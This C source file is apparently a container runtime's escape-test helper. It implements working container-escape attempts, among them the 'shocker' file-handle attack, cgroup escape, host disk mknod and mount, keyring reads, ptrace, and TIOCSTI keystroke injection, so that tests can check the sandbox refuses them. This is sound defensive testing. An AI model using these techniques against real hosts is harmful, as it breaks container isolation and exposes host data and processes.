/* The escapes of the security reference (items 25, 33-38), one subcommand each, run as root
 * inside a container by tests/test_escapes.py; a few subcommands run on the host to set up
 * what an attack looks for (a key, a file handle).
 *
 * An attack prints one line and exits 0 when it got through ("ok ..."), 1 when the kernel
 * refused ("denied ...", errno names, or a word saying what was not there). Usage errors and
 * host-side set-up failures exit 2. Built static, so it runs in any rootfs.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define LINE 4096

/* Key permissions (keyutils.h, which only libkeyutils-dev ships). */
#define KEY_POS_ALL 0x3f000000
#define KEY_USR_VIEW 0x00010000
#define KEY_USR_READ 0x00020000
#define KEY_USR_SEARCH 0x00080000

/* The line being built: "ok"/"denied" is decided at the end, from what got through. */
static char detail[LINE];

static void add(const char *fmt, ...) {
    size_t used = strlen(detail);
    va_list ap;
    if (used && used < sizeof detail - 1)
        detail[used++] = ' ';
    va_start(ap, fmt);
    vsnprintf(detail + used, sizeof detail - used, fmt, ap);
    va_end(ap);
}

static int finish(int escaped) {
    printf("%s %s\n", escaped ? "ok" : "denied", detail);
    return escaped ? 0 : 1;
}

static int usage(const char *what) {
    fprintf(stderr, "usage: escape %s\n", what);
    return 2;
}

static const char *err(int e) {
    const char *name = strerrorname_np(e);
    return name ? name : "E?";
}

/* -- open_by_handle_at: the "shocker" exploit, and the host's root cgroup ---------------- */

struct handle {
    struct file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
};

static int unhex(const char *hex, unsigned char *out, size_t max) {
    size_t n = strlen(hex) / 2;
    if (strlen(hex) % 2 || n > max)
        return -1;
    for (size_t i = 0; i < n; i++)
        if (sscanf(hex + 2 * i, "%2hhx", &out[i]) != 1)
            return -1;
    return (int)n;
}

/* Every mount point this process sees (of filesystem type `fstype` only, unless NULL): a
 * handle is decoded by the filesystem of the mount fd given with it, so each mount is another
 * filesystem, or another view of one, to try the handle on. */
static int mount_points(char points[][512], int max, const char *fstype) {
    FILE *f = fopen("/proc/self/mountinfo", "re");
    char line[LINE];
    int n = 0;
    if (!fstype)
        strcpy(points[n++], "/");
    while (f && n < max && fgets(line, sizeof line, f)) {
        char raw[512], type[64], *out = points[n], *sep = strstr(line, " - ");
        if (sscanf(line, "%*s %*s %*s %*s %511s", raw) != 1 || !sep ||
            sscanf(sep + 3, "%63s", type) != 1 || (fstype && strcmp(type, fstype)))
            continue;
        for (char *c = raw; *c; c++) { /* mountinfo escapes space, tab, newline, backslash */
            unsigned v;
            if (*c == '\\' && sscanf(c + 1, "%3o", &v) == 1) {
                *out++ = (char)v;
                c += 3;
            } else {
                *out++ = *c;
            }
        }
        *out = 0;
        for (int i = 0; i < n; i++)
            if (!strcmp(points[i], points[n])) {
                n--;
                break;
            }
        n++;
    }
    if (f)
        fclose(f);
    return n;
}

static void list_dir(int fd, char *out, size_t size) {
    int copy = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    DIR *d = copy < 0 ? NULL : fdopendir(copy);
    struct dirent *e;
    int shown = 0;
    out[0] = 0;
    while (d && (e = readdir(d)) && shown < 8) {
        if (e->d_name[0] == '.')
            continue;
        snprintf(out + strlen(out), size - strlen(out), "%s%s", shown ? "," : "", e->d_name);
        shown++;
    }
    if (d)
        closedir(d);
}

/* Write `data` into `name` under the directory `dirfd`: "pid" or "ppid", our own pid or our
 * shell's (into cgroup.procs: moving out of the container's cgroup and its limits); "same",
 * what the file holds now (a write that gets through changes nothing on the host). */
static int write_into(int dirfd, const char *name, const char *data) {
    char buf[LINE];
    ssize_t len;
    int fd = openat(dirfd, name, O_RDWR | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    if (strcmp(data, "pid") == 0 || strcmp(data, "ppid") == 0) {
        pid_t pid = strcmp(data, "ppid") == 0 ? getppid() : getpid();
        len = snprintf(buf, sizeof buf, "%d\n", pid);
    } else {
        len = read(fd, buf, sizeof buf - 1);
        if (len <= 0) {
            buf[0] = '\n';
            len = 1;
        }
    }
    if (pwrite(fd, buf, (size_t)len, 0) < 0) {
        int e = errno;
        close(fd);
        return -e;
    }
    close(fd);
    return 0;
}

static int cmd_handle(int argc, char **argv) {
    struct handle h = {0};
    const char *name = argc > 4 ? argv[4] : NULL;
    const char *data = argc > 5 ? argv[5] : "same";
    const char *fstype = argc > 6 ? argv[6] : NULL;
    static char points[256][512];
    int n, opened = 0, wrote = 0;
    char errs[LINE] = "";

    if (argc > 3) {
        int len = unhex(argv[3], h.head.f_handle, MAX_HANDLE_SZ);
        if (len < 0)
            return usage("handle [TYPE HEX [NAME [pid|ppid|same [FSTYPE]]]]");
        h.head.handle_type = atoi(argv[2]);
        h.head.handle_bytes = (unsigned)len;
    } else {
        /* FILEID_INO32_GEN of inode 2, generation 0: the root directory of ext2/3/4. */
        unsigned int ino_gen[2] = {2, 0};
        h.head.handle_type = 1;
        h.head.handle_bytes = sizeof ino_gen;
        memcpy(h.head.f_handle, ino_gen, sizeof ino_gen);
    }
    n = mount_points(points, 256, fstype);
    for (int i = 0; i < n; i++) {
        int mfd = open(points[i], O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
        int fd, e;
        if (mfd < 0)
            continue;
        fd = open_by_handle_at(mfd, &h.head, O_RDONLY | O_CLOEXEC);
        e = errno;
        close(mfd);
        if (fd < 0) {
            if (!strstr(errs, err(e)))
                snprintf(errs + strlen(errs), sizeof errs - strlen(errs), "%s%s",
                         errs[0] ? "," : "", err(e));
            continue;
        }
        /* Every mount is tried (the one that matters may come last); four are told. */
        if (++opened > 4) {
            wrote += name && write_into(fd, name, data) == 0;
            close(fd);
            continue;
        }
        if (name) {
            int r = write_into(fd, name, data);
            if (r == 0) {
                wrote++;
                add("wrote=%s:%s", points[i], name);
            } else {
                add("opened=%s(write:%s)", points[i], err(-r));
            }
        } else {
            char names[LINE];
            struct stat st;
            fstat(fd, &st);
            list_dir(fd, names, sizeof names);
            add("opened=%s(ino:%lu,%s)", points[i], (unsigned long)st.st_ino, names);
        }
        close(fd);
    }
    if (opened > 4)
        add("and %d more", opened - 4);
    if (!opened)
        add("%s", errs[0] ? errs : "no-mounts");
    return finish(opened || wrote);
}

/* Host side: the handle of PATH, as "TYPE HEX", for an attack to guess. */
static int cmd_name_handle(int argc, char **argv) {
    struct handle h = {0};
    int mount_id;
    if (argc != 3)
        return usage("name-handle PATH");
    h.head.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, argv[2], &h.head, &mount_id, 0) < 0) {
        printf("error %s\n", err(errno));
        return 2;
    }
    printf("%d ", h.head.handle_type);
    for (unsigned i = 0; i < h.head.handle_bytes; i++)
        printf("%02x", h.head.f_handle[i]);
    printf("\n");
    return 0;
}

/* -- mknod of the host's disk, and mounting it ------------------------------------------- */

static int cmd_mknod_mount(int argc, char **argv) {
    const char *dirs[] = {"/dev", "/tmp", ""};
    const char *mnt = "/tmp/lxpy-escape-mnt";
    char made[3][64], *nodes[16];
    int nnodes = 0, nmade = 0, mounted = 0, made_any = 0, opened = 0;
    char mknod_errs[256] = "", open_errs[256] = "", mount_errs[256] = "";
    if (argc < 5)
        return usage("mknod-mount MAJOR MINOR FSTYPE [EXISTING-NODE...]");
    dev_t dev = makedev((unsigned)atoi(argv[2]), (unsigned)atoi(argv[3]));
    for (int i = 0; i < 3; i++) {
        snprintf(made[i], sizeof made[i], "%s/lxpy-escape-disk", dirs[i]);
        unlink(made[i]);
        if (mknod(made[i], S_IFBLK | 0600, dev) == 0) {
            int fd = open(made[i], O_RDONLY | O_CLOEXEC);
            if (fd >= 0) {
                opened++;
                close(fd);
            } else if (!strstr(open_errs, err(errno))) {
                snprintf(open_errs + strlen(open_errs), sizeof open_errs - strlen(open_errs),
                         "%s%s", open_errs[0] ? "," : "", err(errno));
            }
            nodes[nnodes++] = made[i];
            nmade++;
            made_any = 1;
        } else if (!strstr(mknod_errs, err(errno))) {
            snprintf(mknod_errs + strlen(mknod_errs), sizeof mknod_errs - strlen(mknod_errs),
                     "%s%s", mknod_errs[0] ? "," : "", err(errno));
        }
    }
    for (int i = 5; i < argc && nnodes < 16; i++)
        nodes[nnodes++] = argv[i];
    mkdir(mnt, 0700);
    for (int i = 0; i < nnodes; i++) {
        /* Read-write first: a superblock already mounted read-write is only shared that way. */
        if (mount(nodes[i], mnt, argv[4], 0, NULL) == 0 ||
            mount(nodes[i], mnt, argv[4], MS_RDONLY, NULL) == 0) {
            char names[LINE];
            int fd = open(mnt, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            list_dir(fd, names, sizeof names);
            close(fd);
            umount2(mnt, MNT_DETACH);
            add("mount=%s(%s)", nodes[i], names);
            mounted = 1;
        } else if (!strstr(mount_errs, err(errno))) {
            snprintf(mount_errs + strlen(mount_errs), sizeof mount_errs - strlen(mount_errs),
                     "%s%s", mount_errs[0] ? "," : "", err(errno));
        }
    }
    rmdir(mnt);
    for (int i = 0; i < 3; i++)
        unlink(made[i]);
    if (made_any)
        add("mknod=ok(%d) open=%s", nmade, opened ? "ok" : open_errs);
    else
        add("mknod=%s", mknod_errs);
    if (!mounted)
        add("mount=%s", nnodes ? mount_errs : "no-node");
    return finish(made_any || mounted);
}

/* -- keys -------------------------------------------------------------------------------- */

static long keyctl(int op, unsigned long a, unsigned long b, unsigned long c) {
    return syscall(SYS_keyctl, op, a, b, c, 0);
}

static long add_key(const char *type, const char *desc, const char *data, size_t len,
                    int keyring) {
    return syscall(SYS_add_key, type, desc, data, len, keyring);
}

/* Host side: a key in root's user keyring that root (as a uid, not a possessor) may read. */
static int cmd_add_key(int argc, char **argv) {
    long serial;
    if (argc != 4)
        return usage("add-key DESCRIPTION PAYLOAD");
    serial = add_key("user", argv[2], argv[3], strlen(argv[3]), KEY_SPEC_USER_KEYRING);
    if (serial < 0) {
        printf("error add_key %s\n", err(errno));
        return 2;
    }
    if (keyctl(KEYCTL_SETPERM, (unsigned long)serial,
               KEY_POS_ALL | KEY_USR_VIEW | KEY_USR_READ | KEY_USR_SEARCH, 0) < 0) {
        printf("error setperm %s\n", err(errno));
        keyctl(KEYCTL_INVALIDATE, (unsigned long)serial, 0, 0);
        return 2;
    }
    printf("%ld\n", serial);
    return 0;
}

static int cmd_remove_key(int argc, char **argv) {
    if (argc != 3)
        return usage("remove-key SERIAL");
    if (keyctl(KEYCTL_INVALIDATE, strtoul(argv[2], NULL, 10), 0, 0) < 0) {
        printf("error %s\n", err(errno));
        return 2;
    }
    printf("removed\n");
    return 0;
}

static int cmd_keyctl(int argc, char **argv) {
    char buf[LINE];
    long n, serial, added;
    int escaped = 0;
    if (argc != 3)
        return usage("keyctl SERIAL");
    serial = strtol(argv[2], NULL, 10);
    n = keyctl(KEYCTL_READ, (unsigned long)serial, (unsigned long)buf, sizeof buf - 1);
    if (n >= 0) {
        buf[n < (long)sizeof buf - 1 ? n : (long)sizeof buf - 1] = 0;
        add("read=%s", buf);
        escaped = 1;
    } else {
        add("read=%s", err(errno));
    }
    n = keyctl(KEYCTL_READ, (unsigned long)KEY_SPEC_USER_KEYRING, (unsigned long)buf,
               sizeof buf);
    if (n < 0) {
        add("user-keyring=%s", err(errno));
    } else {
        int found = 0;
        for (long i = 0; i + 4 <= n && i + 4 <= (long)sizeof buf; i += 4) {
            int32_t id;
            memcpy(&id, buf + i, 4);
            found |= id == serial;
        }
        add("user-keyring=%s", found ? "lists-the-host-key" : "ok-but-without-it");
        escaped |= found;
    }
    added = add_key("user", "lxpy-escape-probe", "x", 1, KEY_SPEC_USER_KEYRING);
    if (added >= 0) {
        keyctl(KEYCTL_INVALIDATE, (unsigned long)added, 0, 0);
        add("add_key=ok");
        escaped = 1;
    } else {
        add("add_key=%s", err(errno));
    }
    return finish(escaped);
}

/* -- kernel interfaces a container has no business with ----------------------------------- */

static int cmd_perf(void) {
    struct perf_event_attr attr = {0};
    int fd;
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    attr.disabled = 1;
    /* Every process on CPU 0, the host's too; then only ourselves. */
    fd = (int)syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0);
    if (fd >= 0) {
        add("cpu-wide");
        return finish(1);
    }
    add("cpu-wide=%s", err(errno));
    attr.exclude_kernel = 1;
    fd = (int)syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
    if (fd >= 0) {
        add("self=ok");
        return finish(1);
    }
    add("self=%s", err(errno));
    return finish(0);
}

static int cmd_bpf(void) {
    union bpf_attr attr;
    int fd;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    fd = (int)syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
    if (fd >= 0) {
        add("map-created");
        return finish(1);
    }
    add("%s", err(errno));
    return finish(0);
}

static int cmd_userfaultfd(void) {
    /* Kernel-mode faults (what exploits use to stretch a race), then user-mode only. */
    int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
    if (fd >= 0) {
        add("kernel-faults");
        return finish(1);
    }
    add("kernel-faults=%s", err(errno));
    fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
    if (fd >= 0) {
        add("user-mode-only=ok");
        return finish(1);
    }
    add("user-mode-only=%s", err(errno));
    return finish(0);
}

static int cmd_syslog(void) {
    static char buf[1 << 16];
    int n = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buf, sizeof buf);
    if (n >= 0) {
        add("read %d bytes", n);
        return finish(1);
    }
    add("%s", err(errno));
    return finish(0);
}

static int cmd_kallsyms(void) {
    FILE *f = fopen("/proc/kallsyms", "re");
    char line[512];
    long total = 0, real = 0;
    if (!f) {
        add("%s", err(errno));
        return finish(0);
    }
    while (fgets(line, sizeof line, f)) {
        total++;
        real += strtoull(line, NULL, 16) != 0;
    }
    fclose(f);
    if (real) {
        add("%ld of %ld addresses", real, total);
        return finish(1);
    }
    add("zero-addresses(%ld)", total);
    return finish(0);
}

/* -- an attaching process: ptrace, its fds, TIOCSTI through them --------------------------- */

static int cmd_ptrace(int argc, char **argv) {
    char path[64], buf[256];
    int escaped = 0, fd;
    pid_t pid;
    if (argc != 3)
        return usage("ptrace PID");
    pid = atoi(argv[2]);
    /* SEIZE does not stop it; our exit detaches. */
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        add("seize=ok");
        escaped = 1;
    } else {
        add("seize=%s", err(errno));
    }
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0 && read(fd, buf, sizeof buf) >= 0) {
        add("environ=ok");
        escaped = 1;
    } else {
        add("environ=%s", err(errno));
    }
    if (fd >= 0)
        close(fd);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        add("mem=ok");
        escaped = 1;
        close(fd);
    } else {
        add("mem=%s", err(errno));
    }
    return finish(escaped);
}

/* Whether the link /proc/PID/<name> leads to something this container has at the same path:
 * anything else (a host path, a memfd of a host binary, a socket) is a way out. */
static int classify(int pid, const char *name, int *denied) {
    char link[128], target[LINE];
    struct stat via_link, via_path;
    ssize_t n;
    snprintf(link, sizeof link, "/proc/%d/%s", pid, name);
    n = readlink(link, target, sizeof target - 1);
    if (n < 0) {
        if (errno == EACCES || errno == EPERM) {
            if (!*denied)
                add("%s=%s", name, err(errno));
            *denied = 1;
        }
        return 0;
    }
    target[n] = 0;
    if (!strncmp(target, "pipe:", 5) || !strncmp(target, "anon_inode:", 11))
        return 0;
    if (target[0] == '/' && !strstr(target, " (deleted)") && stat(link, &via_link) == 0 &&
        stat(target, &via_path) == 0 && via_link.st_dev == via_path.st_dev &&
        via_link.st_ino == via_path.st_ino)
        return 0;
    add("%s=%s", name, target);
    return 1;
}

static int cmd_fds(int argc, char **argv) {
    const char *links[] = {"exe", "cwd", "root"};
    char dir[64];
    int outside = 0, denied = 0, pid;
    DIR *d;
    struct dirent *e;
    if (argc != 3)
        return usage("fds PID");
    pid = atoi(argv[2]);
    for (int i = 0; i < 3; i++)
        outside += classify(pid, links[i], &denied);
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    d = opendir(dir);
    if (!d) {
        add("fd=%s", err(errno));
        return finish(outside);
    }
    while ((e = readdir(d))) {
        char name[300];
        if (e->d_name[0] == '.')
            continue;
        snprintf(name, sizeof name, "fd/%s", e->d_name);
        outside += classify(pid, name, &denied);
    }
    closedir(d);
    if (!outside && !denied)
        add("none-outside");
    return finish(outside);
}

static int cmd_tiocsti(int argc, char **argv) {
    int fd, pid, num;
    if (argc != 4)
        return usage("tiocsti FD-PATH TEXT");
    fd = open(argv[2], O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0 && sscanf(argv[2], "/proc/%d/fd/%d", &pid, &num) == 2) {
        /* Reopening can be refused where taking the very fd is not. */
        int e = errno, pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, num, 0);
        if (fd < 0)
            errno = e;
    }
    if (fd < 0) {
        add("open=%s", err(errno));
        return finish(0);
    }
    if (!isatty(fd)) {
        add("not-a-tty");
        return finish(0);
    }
    for (const char *c = argv[3]; *c; c++)
        if (ioctl(fd, TIOCSTI, c) < 0) {
            add("%s", err(errno));
            return finish(0);
        }
    if (ioctl(fd, TIOCSTI, "\n") < 0) {
        add("%s", err(errno));
        return finish(0);
    }
    /* Where it landed is for the caller to find: the container's own pty is fine. */
    add("sent");
    return finish(1);
}

int main(int argc, char **argv) {
    const char *cmd = argc > 1 ? argv[1] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(cmd, "handle"))
        return cmd_handle(argc, argv);
    if (!strcmp(cmd, "name-handle"))
        return cmd_name_handle(argc, argv);
    if (!strcmp(cmd, "mknod-mount"))
        return cmd_mknod_mount(argc, argv);
    if (!strcmp(cmd, "add-key"))
        return cmd_add_key(argc, argv);
    if (!strcmp(cmd, "remove-key"))
        return cmd_remove_key(argc, argv);
    if (!strcmp(cmd, "keyctl"))
        return cmd_keyctl(argc, argv);
    if (!strcmp(cmd, "perf"))
        return cmd_perf();
    if (!strcmp(cmd, "bpf"))
        return cmd_bpf();
    if (!strcmp(cmd, "userfaultfd"))
        return cmd_userfaultfd();
    if (!strcmp(cmd, "syslog"))
        return cmd_syslog();
    if (!strcmp(cmd, "kallsyms"))
        return cmd_kallsyms();
    if (!strcmp(cmd, "ptrace"))
        return cmd_ptrace(argc, argv);
    if (!strcmp(cmd, "fds"))
        return cmd_fds(argc, argv);
    if (!strcmp(cmd, "tiocsti"))
        return cmd_tiocsti(argc, argv);
    return usage("handle|name-handle|mknod-mount|add-key|remove-key|keyctl|perf|bpf|"
                 "userfaultfd|syslog|kallsyms|ptrace|fds|tiocsti ...");
}
